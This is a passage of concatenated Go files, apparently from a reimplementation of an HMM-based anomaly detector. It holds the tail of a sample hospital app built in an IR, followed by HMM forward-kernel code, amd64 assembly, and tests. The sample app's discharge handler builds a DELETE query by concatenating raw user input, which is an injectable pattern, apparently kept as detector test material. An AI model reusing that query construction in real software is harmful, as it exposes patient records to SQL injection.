		summary.If(ir.Gt(ir.V("rows"), ir.I(5)), big, small)
		big.Call("printf", ir.S("%s bills on file; many overdue\n"), ir.V("total"))
		big.Goto(done)
		small.Call("printf", ir.S("billing healthy\n"))
		small.Goto(done)
		done.Call("PQclear", ir.V("cres"))
		done.Call("PQclear", ir.V("res"))
		done.Ret()
	}

	// dischargePatient(conn, pid): DELETE, log to the audit file.
	{
		f := b.Func("dischargePatient", "conn", "pid")
		e := f.Block()
		e.CallTo("res", "PQexec", ir.V("conn"),
			ir.Cat(ir.S("DELETE FROM patients WHERE id = "), ir.V("pid")))
		e.CallTo("log", "fopen", ir.S("discharge.log"), ir.S("a"))
		e.Call("fprintf", ir.V("log"), ir.S("discharged %s\n"), ir.V("pid"))
		e.Call("fclose", ir.V("log"))
		e.Call("printf", ir.S("done\n"))
		e.Call("PQclear", ir.V("res"))
		e.Ret()
	}

	// menu(): the fallthrough help text.
	{
		f := b.Func("menu")
		e := f.Block()
		e.Call("puts", ir.S("1 lookup | 2 admit | 3 appts | 4 billing | 5 discharge"))
		e.Ret()
	}

	// main: read op, dispatch.
	{
		m := b.Func("main")
		e := m.Block()
		op1 := m.Block()
		n1 := m.Block()
		op2 := m.Block()
		n2 := m.Block()
		op3 := m.Block()
		n3 := m.Block()
		op4 := m.Block()
		n4 := m.Block()
		op5 := m.Block()
		other := m.Block()
		done := m.Block()

		e.CallTo("conn", "PQconnectdb")
		e.CallTo("opTok", "scanf", ir.S("%d"))
		e.CallTo("op", "atoi", ir.V("opTok"))
		e.If(ir.Eq(ir.V("op"), ir.I(1)), op1, n1)

		op1.CallTo("pid", "scanf", ir.S("%s"))
		op1.Invoke("lookupPatient", ir.V("conn"), ir.V("pid"))
		op1.Goto(done)

		n1.If(ir.Eq(ir.V("op"), ir.I(2)), op2, n2)
		op2.CallTo("name", "scanf", ir.S("%s"))
		op2.CallTo("age", "scanf", ir.S("%s"))
		op2.Invoke("admitPatient", ir.V("conn"), ir.V("name"), ir.V("age"))
		op2.Goto(done)

		n2.If(ir.Eq(ir.V("op"), ir.I(3)), op3, n3)
		op3.CallTo("pid", "scanf", ir.S("%s"))
		op3.Invoke("listAppointments", ir.V("conn"), ir.V("pid"))
		op3.Goto(done)

		n3.If(ir.Eq(ir.V("op"), ir.I(4)), op4, n4)
		op4.CallTo("limit", "scanf", ir.S("%s"))
		op4.Invoke("billingReport", ir.V("conn"), ir.V("limit"))
		op4.Goto(done)

		n4.If(ir.Eq(ir.V("op"), ir.I(5)), op5, other)
		op5.CallTo("pid", "scanf", ir.S("%s"))
		op5.Invoke("dischargePatient", ir.V("conn"), ir.V("pid"))
		op5.Goto(done)

		other.Invoke("menu")
		other.Goto(done)

		done.Call("PQfinish", ir.V("conn"))
		done.Ret()
	}

	return b.MustBuild()
}

func appHTestCases() []TestCase {
	var cases []TestCase
	add := func(name string, input ...string) {
		cases = append(cases, TestCase{Name: name, Input: input})
	}
	// 63 test cases mirroring Table III's App_h count: lookups across the id
	// range, admissions, appointment listings, billing sweeps, discharges,
	// and menu fallthroughs.
	for i := 1; i <= 20; i++ {
		add(fmt.Sprintf("lookup-%d", i), "1", fmt.Sprintf("%d", i))
	}
	for i := 0; i < 10; i++ {
		add(fmt.Sprintf("admit-%d", i), "2", fmt.Sprintf("newpat%d", i), fmt.Sprintf("%d", 25+i))
	}
	for i := 1; i <= 12; i++ {
		add(fmt.Sprintf("appts-%d", i), "3", fmt.Sprintf("%d", i))
	}
	for _, limit := range []int{0, 500, 1000, 1500, 2000, 2500, 3000, 3600} {
		add(fmt.Sprintf("billing-%d", limit), "4", fmt.Sprintf("%d", limit))
	}
	for i := 1; i <= 10; i++ {
		add(fmt.Sprintf("discharge-%d", i), "5", fmt.Sprintf("%d", i*2))
	}
	for i := 0; i < 3; i++ {
		add(fmt.Sprintf("menu-%d", i), fmt.Sprintf("%d", 90+i))
	}
	return cases
}
