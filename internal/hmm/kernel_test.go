package hmm

import (
	"math"
	"math/rand"
	"testing"
)

// randomForwardState builds a random model plus a normalised forward vector,
// exercising awkward state counts around every kernel block boundary.
func randomForwardState(n int, r *rand.Rand) (*Model, []float64) {
	m := NewRandom(n, 7, r.Int63())
	alpha := make([]float64, n)
	var sum float64
	for i := range alpha {
		alpha[i] = r.Float64()
		sum += alpha[i]
	}
	inv := 1 / sum
	for i := range alpha {
		alpha[i] *= inv
	}
	return m, alpha
}

// TestKernelParity pins the cross-path guarantee the scoring API is built
// on: the AVX-512, AVX2, and pure-Go forward steps produce bit-identical
// next vectors and scale sums for every state count.
func TestKernelParity(t *testing.T) {
	r := rand.New(rand.NewSource(7))
	sizes := []int{1, 2, 3, 5, 7, 8, 9, 15, 16, 17, 24, 31, 32, 33, 46, 47, 48, 49, 63, 64, 65, 96, 97, 130}
	for _, n := range sizes {
		m, alpha := randomForwardState(n, r)
		s := m.NewScorer()
		bc := s.bcol(r.Intn(m.M))

		type result struct {
			name  string
			next  []float64
			scale float64
		}
		var results []result
		for _, lvl := range []struct {
			name  string
			level int
		}{{"go", KernelGo}, {"avx2", KernelAVX2}, {"avx512", KernelAVX512}} {
			restore, ok := ForceKernel(lvl.level)
			if !ok {
				continue
			}
			next := make([]float64, s.np) // vector kernels store padded lanes
			scale := s.step(alpha, bc, next)
			restore()
			results = append(results, result{lvl.name, next[:n], scale})
		}
		if len(results) < 2 {
			t.Skip("only one kernel level available")
		}
		ref := results[0]
		for _, got := range results[1:] {
			if got.scale != ref.scale {
				t.Errorf("n=%d: scale %s=%v differs from %s=%v", n, got.name, got.scale, ref.name, ref.scale)
			}
			for j := range ref.next {
				if got.next[j] != ref.next[j] {
					t.Fatalf("n=%d: next[%d] %s=%v differs from %s=%v", n, j, got.name, got.next[j], ref.name, ref.next[j])
				}
			}
		}
	}
}

// TestKernelMatchesModelStep checks the flat kernel against a direct
// [][]float64 reimplementation of the canonical order, so a shared bug in
// the slab layouts cannot hide.
func TestKernelMatchesModelStep(t *testing.T) {
	r := rand.New(rand.NewSource(11))
	for _, n := range []int{1, 3, 8, 46, 50, 97} {
		m, alpha := randomForwardState(n, r)
		s := m.NewScorer()
		o := r.Intn(m.M)

		next := make([]float64, s.np)
		scale := s.step(alpha, s.bcol(o), next)

		want := make([]float64, n)
		var lanes [scaleLanes]float64
		for j := 0; j < n; j++ {
			var d float64
			for i := 0; i < n; i++ {
				d += alpha[i] * m.A[i][j]
			}
			want[j] = d * m.B[j][o]
			lanes[j&7] += want[j]
		}
		if wantScale := reduceLanes(&lanes); scale != wantScale {
			t.Errorf("n=%d: scale = %v, want %v", n, scale, wantScale)
		}
		for j := range want {
			if next[j] != want[j] {
				t.Fatalf("n=%d: next[%d] = %v, want %v", n, j, next[j], want[j])
			}
		}
	}
}

// TestLanedSumMatchesEmitScale pins emitScale to lanedSum ∘ elementwise
// multiply and both to reduceLanes' documented tree.
func TestLanedSumMatchesEmitScale(t *testing.T) {
	r := rand.New(rand.NewSource(3))
	for _, n := range []int{1, 7, 8, 9, 46} {
		v := make([]float64, n)
		b := make([]float64, n)
		prod := make([]float64, n)
		for i := range v {
			v[i] = r.Float64()
			b[i] = r.Float64()
			prod[i] = v[i] * b[i]
		}
		want := lanedSum(prod)
		got := emitScale(v, b)
		if got != want {
			t.Errorf("n=%d: emitScale = %v, lanedSum = %v", n, got, want)
		}
		var s [scaleLanes]float64
		for j, x := range prod {
			s[j&7] += x
		}
		tree := ((s[0] + s[4]) + (s[2] + s[6])) + ((s[1] + s[5]) + (s[3] + s[7]))
		if want != tree {
			t.Errorf("n=%d: reduceLanes = %v, documented tree = %v", n, want, tree)
		}
	}
}

// TestScorerLogProbBitIdentical: the pooled flat-kernel batch scorer must
// reproduce Model.LogProb bit for bit, including -Inf windows.
func TestScorerLogProbBitIdentical(t *testing.T) {
	r := rand.New(rand.NewSource(19))
	for trial := 0; trial < 50; trial++ {
		n := 1 + r.Intn(60)
		m := NewRandom(n, 2+r.Intn(12), r.Int63())
		if trial%3 == 0 {
			sharpen(m, r) // near-sparse rows, as CTM initialisation produces
		}
		s := m.NewScorer()
		obs := make([]int, 1+r.Intn(30))
		for i := range obs {
			obs[i] = r.Intn(m.M)
		}
		want, err := m.LogProb(obs)
		if err != nil {
			t.Fatalf("LogProb: %v", err)
		}
		got, err := s.LogProb(obs)
		if err != nil {
			t.Fatalf("Scorer.LogProb: %v", err)
		}
		if got != want && !(math.IsInf(got, -1) && math.IsInf(want, -1)) {
			t.Fatalf("trial %d (n=%d): Scorer.LogProb = %v, Model.LogProb = %v (diff %g)",
				trial, n, got, want, got-want)
		}
	}
}

// sharpen raises each stochastic row to a power and renormalises, pushing
// most of the mass onto a few entries the way pCTM-derived rows look.
func sharpen(m *Model, r *rand.Rand) {
	pow := 3 + r.Intn(5)
	for i := 0; i < m.N; i++ {
		for _, row := range [][]float64{m.A[i], m.B[i]} {
			var sum float64
			for j := range row {
				row[j] = math.Pow(row[j], float64(pow))
				sum += row[j]
			}
			for j := range row {
				row[j] /= sum
			}
		}
	}
}
