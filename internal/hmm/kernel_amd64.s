//go:build amd64 && !purego

#include "textflag.h"

// Forward-step kernels. The rounding-order contract (kernel.go) is: per
// destination state j, the reduction over predecessor states i is one
// sequential multiply-then-add chain (no FMA), and the scale sum places
// element j in lane j mod 8 with the reduceLanes fold tree. Both kernels
// vectorise across j only, so every lane replays the scalar chain exactly.
//
// The Scorer pads its slabs to np = roundup16(n) destination states with
// zero columns (kernel.go): a zero transition column times any alpha is +0.0
// and adds exactly nothing to the scale lanes, so the kernels run unmasked
// full-width blocks with no tail cases.

// func dotEmitScaleAVX512(alpha, a, bcol, next *float64, n, np int) float64
//
// next = (alphaᵀ A) ∘ bcol over the row-major n×np slab a; returns the
// canonical laned scale sum. Destination states are covered by passes of 48
// (6 zmm blocks — six independent add chains for ILP) and the np%48
// remainder (0, 16, or 32 padded lanes) by passes of 16 (2 blocks).
TEXT ·dotEmitScaleAVX512(SB), NOSPLIT, $0-56
	MOVQ alpha+0(FP), DI
	MOVQ a+8(FP), SI
	MOVQ bcol+16(FP), DX
	MOVQ next+24(FP), R8
	MOVQ n+32(FP), R9
	MOVQ np+40(FP), BX

	MOVQ BX, R13
	SHLQ $3, R13              // row stride in bytes
	VPXORQ Z9, Z9, Z9         // scale lane accumulator
	XORQ R10, R10             // jb: first destination state of the pass

big_check:
	MOVQ BX, CX
	SUBQ R10, CX              // padded states remaining
	CMPQ CX, $48
	JLT small_check

	// 6-block pass covering j = jb .. jb+47.
	VPXORQ Z0, Z0, Z0
	VPXORQ Z1, Z1, Z1
	VPXORQ Z2, Z2, Z2
	VPXORQ Z3, Z3, Z3
	VPXORQ Z4, Z4, Z4
	VPXORQ Z5, Z5, Z5
	LEAQ (SI)(R10*8), R12     // &a[0*np + jb]
	XORQ R11, R11             // i

big_i:
	VBROADCASTSD (DI)(R11*8), Z6
	VMULPD (R12), Z6, Z7
	VADDPD Z7, Z0, Z0
	VMULPD 64(R12), Z6, Z7
	VADDPD Z7, Z1, Z1
	VMULPD 128(R12), Z6, Z7
	VADDPD Z7, Z2, Z2
	VMULPD 192(R12), Z6, Z7
	VADDPD Z7, Z3, Z3
	VMULPD 256(R12), Z6, Z7
	VADDPD Z7, Z4, Z4
	VMULPD 320(R12), Z6, Z7
	VADDPD Z7, Z5, Z5
	ADDQ R13, R12
	INCQ R11
	CMPQ R11, R9
	JLT big_i

	// Emission multiply, store, and ascending-block scale accumulation.
	VMULPD (DX)(R10*8), Z0, Z0
	VMOVUPD Z0, (R8)(R10*8)
	VADDPD Z0, Z9, Z9
	VMULPD 64(DX)(R10*8), Z1, Z1
	VMOVUPD Z1, 64(R8)(R10*8)
	VADDPD Z1, Z9, Z9
	VMULPD 128(DX)(R10*8), Z2, Z2
	VMOVUPD Z2, 128(R8)(R10*8)
	VADDPD Z2, Z9, Z9
	VMULPD 192(DX)(R10*8), Z3, Z3
	VMOVUPD Z3, 192(R8)(R10*8)
	VADDPD Z3, Z9, Z9
	VMULPD 256(DX)(R10*8), Z4, Z4
	VMOVUPD Z4, 256(R8)(R10*8)
	VADDPD Z4, Z9, Z9
	VMULPD 320(DX)(R10*8), Z5, Z5
	VMOVUPD Z5, 320(R8)(R10*8)
	VADDPD Z5, Z9, Z9

	ADDQ $48, R10
	JMP big_check

small_check:
	TESTQ CX, CX
	JLE reduce

small_pass:
	// 2-block pass covering j = jb .. jb+15.
	VPXORQ Z0, Z0, Z0
	VPXORQ Z1, Z1, Z1
	LEAQ (SI)(R10*8), R12
	XORQ R11, R11

small_i:
	VBROADCASTSD (DI)(R11*8), Z6
	VMULPD (R12), Z6, Z7
	VADDPD Z7, Z0, Z0
	VMULPD 64(R12), Z6, Z7
	VADDPD Z7, Z1, Z1
	ADDQ R13, R12
	INCQ R11
	CMPQ R11, R9
	JLT small_i

	VMULPD (DX)(R10*8), Z0, Z0
	VMOVUPD Z0, (R8)(R10*8)
	VADDPD Z0, Z9, Z9
	VMULPD 64(DX)(R10*8), Z1, Z1
	VMOVUPD Z1, 64(R8)(R10*8)
	VADDPD Z1, Z9, Z9

	ADDQ $16, R10
	CMPQ R10, BX
	JLT small_pass

reduce:
	// reduceLanes fold tree: high half, high quarter, final pair.
	VEXTRACTF64X4 $1, Z9, Y10
	VADDPD Y10, Y9, Y9
	VEXTRACTF128 $1, Y9, X10
	VADDPD X10, X9, X9
	VUNPCKHPD X9, X9, X10
	VADDSD X10, X9, X9
	VZEROUPPER
	MOVSD X9, ret+48(FP)
	RET

// func forwardDotsAVX2(alpha, a, next *float64, n, np int)
//
// next[j] = Σ_i alpha[i]·a[i*np+j]; the emission multiply and scale sum run
// in Go (emitScale), which preserves the canonical order. Padded lanes make
// every pass four unmasked ymm blocks (16 states).
TEXT ·forwardDotsAVX2(SB), NOSPLIT, $0-40
	MOVQ alpha+0(FP), DI
	MOVQ a+8(FP), SI
	MOVQ next+16(FP), R8
	MOVQ n+24(FP), R9
	MOVQ np+32(FP), BX

	MOVQ BX, R13
	SHLQ $3, R13
	XORQ R10, R10

a2_pass:
	VXORPD Y0, Y0, Y0
	VXORPD Y1, Y1, Y1
	VXORPD Y2, Y2, Y2
	VXORPD Y3, Y3, Y3
	LEAQ (SI)(R10*8), R12
	XORQ R11, R11

a2_i:
	VBROADCASTSD (DI)(R11*8), Y6
	VMULPD (R12), Y6, Y7
	VADDPD Y7, Y0, Y0
	VMULPD 32(R12), Y6, Y7
	VADDPD Y7, Y1, Y1
	VMULPD 64(R12), Y6, Y7
	VADDPD Y7, Y2, Y2
	VMULPD 96(R12), Y6, Y7
	VADDPD Y7, Y3, Y3
	ADDQ R13, R12
	INCQ R11
	CMPQ R11, R9
	JLT a2_i

	VMOVUPD Y0, (R8)(R10*8)
	VMOVUPD Y1, 32(R8)(R10*8)
	VMOVUPD Y2, 64(R8)(R10*8)
	VMOVUPD Y3, 96(R8)(R10*8)
	ADDQ $16, R10
	CMPQ R10, BX
	JLT a2_pass

	VZEROUPPER
	RET

// func cpuidRaw(leaf, subleaf uint32) (eax, ebx, ecx, edx uint32)
TEXT ·cpuidRaw(SB), NOSPLIT, $0-24
	MOVL leaf+0(FP), AX
	MOVL subleaf+4(FP), CX
	CPUID
	MOVL AX, eax+8(FP)
	MOVL BX, ebx+12(FP)
	MOVL CX, ecx+16(FP)
	MOVL DX, edx+20(FP)
	RET

// func xgetbv0() (eax, edx uint32)
TEXT ·xgetbv0(SB), NOSPLIT, $0-8
	XORL CX, CX
	XGETBV
	MOVL AX, eax+0(FP)
	MOVL DX, edx+4(FP)
	RET
