package hmm

// This file defines the canonical forward-step arithmetic shared by every
// scoring path in the package: Model.LogProb (the readable batch reference),
// Scorer.LogProb (flat batch kernel), and StreamScorer (incremental sliding
// windows). "Bit-identical" across those paths is a hard API guarantee, so the
// rounding order is pinned here once and replayed everywhere, including the
// amd64 vector kernels:
//
//   - The dot product feeding each destination state j reduces over the
//     predecessor states i in strictly ascending order with a single
//     accumulator, as an unfused multiply-then-add chain. Vector kernels keep
//     this order by vectorising across j (one lane per destination state),
//     never across i.
//   - The scale factor is an 8-lane blocked sum: element v[j] lands in lane
//     j mod 8, lanes are folded by the fixed tree reduceLanes. This is
//     exactly what one 512-bit accumulator register produces, and the scalar
//     paths replay it lane by lane.
//   - Normalisation multiplies by inv = 1/scale (one rounding for the
//     reciprocal, one per element), elementwise and therefore order-free.
//
// All inputs are probabilities (non-negative), so padding a lane with +0.0
// adds exactly zero and the blocked sum is well defined for any n. The Scorer
// exploits this by padding its slabs to np = roundup16(n) destination states
// with all-zero transition/emission columns: padded lanes contribute exactly
// nothing to any dot or scale sum, so the vector kernels run unmasked
// full-width blocks with no tail cases.

const scaleLanes = 8

// reduceLanes folds the 8 lane partials with the fixed tree
// ((s0+s4)+(s2+s6)) + ((s1+s5)+(s3+s7)) — the sequence a 512-bit register
// reduction produces (fold high half, fold high quarter, fold pair).
func reduceLanes(s *[scaleLanes]float64) float64 {
	t0 := s[0] + s[4]
	t1 := s[1] + s[5]
	t2 := s[2] + s[6]
	t3 := s[3] + s[7]
	u0 := t0 + t2
	u1 := t1 + t3
	return u0 + u1
}

// lanedSum is the canonical scale sum of v: lane j mod 8 accumulates v[j] in
// ascending j, then reduceLanes folds the lanes.
func lanedSum(v []float64) float64 {
	var s [scaleLanes]float64
	for j, x := range v {
		s[j&7] += x
	}
	return reduceLanes(&s)
}

// emitScale applies the emission column to a vector of transition dots
// (next[j] *= bcol[j]) and returns the canonical laned scale sum of the
// result.
func emitScale(next, bcol []float64) float64 {
	var s [scaleLanes]float64
	for j := range next {
		v := next[j] * bcol[j]
		next[j] = v
		s[j&7] += v
	}
	return reduceLanes(&s)
}

// forwardDotsGo computes next[j] = Σ_i alpha[i]·at[j*n+i] for every
// destination state j, walking the transposed transition matrix so the inner
// reduction is contiguous. Reduction order per j is the canonical ascending-i
// chain.
func forwardDotsGo(alpha, at, next []float64, n int) {
	for j := 0; j < n; j++ {
		row := at[j*n : j*n+n : j*n+n]
		var s float64
		for i, a := range alpha {
			s += a * row[i]
		}
		next[j] = s
	}
}

// step advances one normalised forward vector by one observation:
// next = (alphaᵀA) ∘ bcol, returning the canonical scale sum. It dispatches
// to the best kernel the CPU supports; every kernel produces bit-identical
// results by construction (see the canonical-order contract above).
//
// alpha must hold at least n live entries; bcol is a padded emission column
// (np entries) and next must have room for np entries — the vector kernels
// store zeros into the padded lanes, the scalar path leaves them untouched,
// and no caller reads past n.
func (s *Scorer) step(alpha, bcol, next []float64) float64 {
	switch kernelLevel {
	case kernelAVX512:
		return dotEmitScaleAVX512(&alpha[0], &s.a[0], &bcol[0], &next[0], s.n, s.np)
	case kernelAVX2:
		forwardDotsAVX2(&alpha[0], &s.a[0], &next[0], s.n, s.np)
		return emitScale(next[:s.n], bcol)
	default:
		forwardDotsGo(alpha[:s.n], s.at, next, s.n)
		return emitScale(next[:s.n], bcol)
	}
}

// Kernel dispatch levels. kernelLevel is fixed at init from CPU feature
// detection; tests override it to cross-check the paths against each other.
const (
	kernelGo = iota
	kernelAVX2
	kernelAVX512
)

// KernelName reports which scoring kernel the CPU feature detection selected
// for this process ("go", "avx2", or "avx512") — build-info provenance for
// metrics and bug reports, since the dispatch is fixed at init.
func KernelName() string {
	switch kernelLevel {
	case kernelAVX512:
		return "avx512"
	case kernelAVX2:
		return "avx2"
	default:
		return "go"
	}
}
