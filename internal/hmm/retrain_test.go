package hmm

import (
	"context"
	"math/rand"
	"reflect"
	"testing"
)

// drawSeq samples one observation sequence from a generating model.
func drawSeq(m *Model, r *rand.Rand, length int) []int {
	pick := func(row []float64) int {
		x := r.Float64()
		var acc float64
		for i, p := range row {
			acc += p
			if x < acc {
				return i
			}
		}
		return len(row) - 1
	}
	state := pick(m.Pi)
	out := make([]int, length)
	for t := 0; t < length; t++ {
		out[t] = pick(m.B[state])
		state = pick(m.A[state])
	}
	return out
}

// TestRetrainLeavesReceiverUntouched: the warm-start path must never mutate
// the serving model — a Scorer snapshot taken before the retrain and the
// model itself must be bit-identical afterwards.
func TestRetrainLeavesReceiverUntouched(t *testing.T) {
	gen := NewRandom(3, 4, 7)
	r := rand.New(rand.NewSource(11))
	var seqs [][]int
	for i := 0; i < 20; i++ {
		seqs = append(seqs, drawSeq(gen, r, 12))
	}

	base := NewRandom(3, 4, 1)
	snapshot := base.Clone()
	next, res, err := base.Retrain(context.Background(), seqs, TrainOptions{MaxIters: 8})
	if err != nil {
		t.Fatal(err)
	}
	if res.Iterations == 0 {
		t.Fatal("retrain ran no iterations")
	}
	if !reflect.DeepEqual(base.Pi, snapshot.Pi) ||
		!reflect.DeepEqual(base.A, snapshot.A) ||
		!reflect.DeepEqual(base.B, snapshot.B) {
		t.Fatal("Retrain mutated the receiver")
	}
	if next == base {
		t.Fatal("Retrain returned the receiver")
	}
	if err := next.Validate(1e-6); err != nil {
		t.Fatalf("retrained model invalid: %v", err)
	}
}

// TestRetrainAdaptsToShiftedCorpus: after behaviour drifts, the retrained
// copy must fit the new corpus better than the stale model does, while the
// MAP anchor keeps it a valid stochastic model.
func TestRetrainAdaptsToShiftedCorpus(t *testing.T) {
	oldGen := NewRandom(3, 5, 2)
	newGen := NewRandom(3, 5, 99) // the drifted behaviour
	r := rand.New(rand.NewSource(5))

	var oldSeqs, newSeqs [][]int
	for i := 0; i < 30; i++ {
		oldSeqs = append(oldSeqs, drawSeq(oldGen, r, 15))
		newSeqs = append(newSeqs, drawSeq(newGen, r, 15))
	}

	// The "serving" model: trained on the old behaviour.
	base := NewRandom(3, 5, 3)
	if _, err := base.Train(oldSeqs, TrainOptions{MaxIters: 15}); err != nil {
		t.Fatal(err)
	}
	staleFit := base.avgLogProb(newSeqs)

	next, _, err := base.Retrain(context.Background(), newSeqs, TrainOptions{MaxIters: 15})
	if err != nil {
		t.Fatal(err)
	}
	freshFit := next.avgLogProb(newSeqs)
	if freshFit <= staleFit {
		t.Fatalf("retrain did not adapt: stale fit %v, retrained fit %v", staleFit, freshFit)
	}
}

// TestRetrainHonoursCancellation: a cancelled context aborts between
// iterations with the receiver still untouched.
func TestRetrainHonoursCancellation(t *testing.T) {
	base := NewRandom(2, 3, 4)
	snapshot := base.Clone()
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, _, err := base.Retrain(ctx, [][]int{{0, 1, 2, 1}}, TrainOptions{MaxIters: 5}); err == nil {
		t.Fatal("cancelled retrain reported success")
	}
	if !reflect.DeepEqual(base.A, snapshot.A) {
		t.Fatal("cancelled retrain mutated the receiver")
	}
}
