// Package hmm implements discrete-observation hidden Markov models: scaled
// forward/backward evaluation, Viterbi decoding, and multi-sequence
// Baum–Welch training.
//
// It replaces the Jahmm library used by the paper's Profile Constructor and
// Detection Engine. Numerical stability follows Rabiner's scaling: the
// forward pass renormalises α at every step and accumulates the
// log-likelihood from the scale factors, so window probabilities P(cs|λ)
// compare safely at any sequence length.
package hmm

import (
	"errors"
	"fmt"
	"math"
	"math/rand"
)

// Errors reported by the package.
var (
	ErrShape   = errors.New("hmm: inconsistent model shape")
	ErrNoData  = errors.New("hmm: no training sequences")
	ErrSymbols = errors.New("hmm: observation symbol out of range")
)

// Model is a discrete HMM λ = (A, B, π) with N hidden states and M
// observation symbols. All fields are exported for gob serialisation; mutate
// through the training APIs.
type Model struct {
	N  int
	M  int
	Pi []float64   // initial state distribution, length N
	A  [][]float64 // state transitions, N×N, rows stochastic
	B  [][]float64 // emissions, N×M, rows stochastic
}

// New returns a model with uniform parameters.
func New(n, m int) *Model {
	mod := &Model{N: n, M: m, Pi: make([]float64, n), A: alloc(n, n), B: alloc(n, m)}
	for i := 0; i < n; i++ {
		mod.Pi[i] = 1 / float64(n)
		for j := 0; j < n; j++ {
			mod.A[i][j] = 1 / float64(n)
		}
		for k := 0; k < m; k++ {
			mod.B[i][k] = 1 / float64(m)
		}
	}
	return mod
}

// NewRandom returns a model with random stochastic rows — the Rand-HMM
// baseline's initialisation ([33] in the paper).
func NewRandom(n, m int, seed int64) *Model {
	r := rand.New(rand.NewSource(seed))
	mod := &Model{N: n, M: m, Pi: make([]float64, n), A: alloc(n, n), B: alloc(n, m)}
	fill := func(row []float64) {
		var sum float64
		for i := range row {
			row[i] = 0.1 + r.Float64()
			sum += row[i]
		}
		for i := range row {
			row[i] /= sum
		}
	}
	fill(mod.Pi)
	for i := 0; i < n; i++ {
		fill(mod.A[i])
		fill(mod.B[i])
	}
	return mod
}

func alloc(r, c int) [][]float64 {
	m := make([][]float64, r)
	for i := range m {
		m[i] = make([]float64, c)
	}
	return m
}

// Clone deep-copies the model.
func (m *Model) Clone() *Model {
	cp := &Model{N: m.N, M: m.M, Pi: append([]float64(nil), m.Pi...)}
	cp.A = cloneMat(m.A)
	cp.B = cloneMat(m.B)
	return cp
}

func cloneMat(src [][]float64) [][]float64 {
	out := make([][]float64, len(src))
	for i, row := range src {
		out[i] = append([]float64(nil), row...)
	}
	return out
}

// Validate checks shape and row stochasticity within tol.
func (m *Model) Validate(tol float64) error {
	if m.N <= 0 || m.M <= 0 || len(m.Pi) != m.N || len(m.A) != m.N || len(m.B) != m.N {
		return fmt.Errorf("%w: N=%d M=%d", ErrShape, m.N, m.M)
	}
	check := func(row []float64, what string, wantLen int) error {
		if len(row) != wantLen {
			return fmt.Errorf("%w: %s has length %d, want %d", ErrShape, what, len(row), wantLen)
		}
		var sum float64
		for _, v := range row {
			if v < 0 || math.IsNaN(v) {
				return fmt.Errorf("%w: %s contains %v", ErrShape, what, v)
			}
			sum += v
		}
		if math.Abs(sum-1) > tol {
			return fmt.Errorf("%w: %s sums to %v", ErrShape, what, sum)
		}
		return nil
	}
	if err := check(m.Pi, "Pi", m.N); err != nil {
		return err
	}
	for i := 0; i < m.N; i++ {
		if err := check(m.A[i], fmt.Sprintf("A[%d]", i), m.N); err != nil {
			return err
		}
		if err := check(m.B[i], fmt.Sprintf("B[%d]", i), m.M); err != nil {
			return err
		}
	}
	return nil
}

// LogProb returns log P(obs | λ) using the scaled forward algorithm, or -Inf
// when the sequence is impossible under the model. Symbols outside [0, M)
// return ErrSymbols.
//
// This is the readable reference implementation of the canonical forward
// arithmetic (see kernel.go): per-state dots reduce over predecessors in
// ascending order, the scale factor is the 8-lane blocked sum, and
// normalisation multiplies by the reciprocal of the scale. The flat Scorer
// kernels and the incremental StreamScorer reproduce it bit for bit.
func (m *Model) LogProb(obs []int) (float64, error) {
	if len(obs) == 0 {
		return 0, nil
	}
	alpha := make([]float64, m.N)
	next := make([]float64, m.N)
	var logL float64

	o := obs[0]
	if o < 0 || o >= m.M {
		return 0, fmt.Errorf("%w: %d", ErrSymbols, o)
	}
	var lanes [scaleLanes]float64
	for i := 0; i < m.N; i++ {
		alpha[i] = m.Pi[i] * m.B[i][o]
		lanes[i&7] += alpha[i]
	}
	scale := reduceLanes(&lanes)
	if scale == 0 {
		return math.Inf(-1), nil
	}
	logL += math.Log(scale)
	inv := 1 / scale
	for i := range alpha {
		alpha[i] *= inv
	}

	for t := 1; t < len(obs); t++ {
		o = obs[t]
		if o < 0 || o >= m.M {
			return 0, fmt.Errorf("%w: %d", ErrSymbols, o)
		}
		lanes = [scaleLanes]float64{}
		for j := 0; j < m.N; j++ {
			var s float64
			for i := 0; i < m.N; i++ {
				s += alpha[i] * m.A[i][j]
			}
			next[j] = s * m.B[j][o]
			lanes[j&7] += next[j]
		}
		scale = reduceLanes(&lanes)
		if scale == 0 {
			return math.Inf(-1), nil
		}
		logL += math.Log(scale)
		inv = 1 / scale
		for j := range next {
			next[j] *= inv
		}
		alpha, next = next, alpha
	}
	return logL, nil
}

// Viterbi returns the most likely hidden-state sequence for obs and its log
// probability.
func (m *Model) Viterbi(obs []int) ([]int, float64, error) {
	if len(obs) == 0 {
		return nil, 0, nil
	}
	const tiny = -1e300
	logA := cloneMat(m.A)
	logB := cloneMat(m.B)
	for i := range logA {
		for j := range logA[i] {
			logA[i][j] = safeLog(logA[i][j], tiny)
		}
		for k := range logB[i] {
			logB[i][k] = safeLog(logB[i][k], tiny)
		}
	}

	T := len(obs)
	delta := alloc(T, m.N)
	psi := make([][]int, T)
	for t := range psi {
		psi[t] = make([]int, m.N)
	}
	o := obs[0]
	if o < 0 || o >= m.M {
		return nil, 0, fmt.Errorf("%w: %d", ErrSymbols, o)
	}
	for i := 0; i < m.N; i++ {
		delta[0][i] = safeLog(m.Pi[i], tiny) + logB[i][o]
	}
	for t := 1; t < T; t++ {
		o = obs[t]
		if o < 0 || o >= m.M {
			return nil, 0, fmt.Errorf("%w: %d", ErrSymbols, o)
		}
		for j := 0; j < m.N; j++ {
			best, arg := math.Inf(-1), 0
			for i := 0; i < m.N; i++ {
				if v := delta[t-1][i] + logA[i][j]; v > best {
					best, arg = v, i
				}
			}
			delta[t][j] = best + logB[j][o]
			psi[t][j] = arg
		}
	}
	best, arg := math.Inf(-1), 0
	for i := 0; i < m.N; i++ {
		if delta[T-1][i] > best {
			best, arg = delta[T-1][i], i
		}
	}
	path := make([]int, T)
	path[T-1] = arg
	for t := T - 2; t >= 0; t-- {
		path[t] = psi[t+1][path[t+1]]
	}
	return path, best, nil
}

func safeLog(v, tiny float64) float64 {
	if v <= 0 {
		return tiny
	}
	return math.Log(v)
}

// Smooth raises every parameter to at least floor and renormalises. Training
// applies it after each iteration so that library calls unseen in some
// context keep non-zero probability — without it a single novel-but-benign
// transition would zero out an entire window.
func (m *Model) Smooth(floor float64) {
	smoothRow(m.Pi, floor)
	for i := 0; i < m.N; i++ {
		smoothRow(m.A[i], floor)
		smoothRow(m.B[i], floor)
	}
}

func smoothRow(row []float64, floor float64) {
	var sum float64
	for i := range row {
		if row[i] < floor {
			row[i] = floor
		}
		sum += row[i]
	}
	if sum == 0 {
		for i := range row {
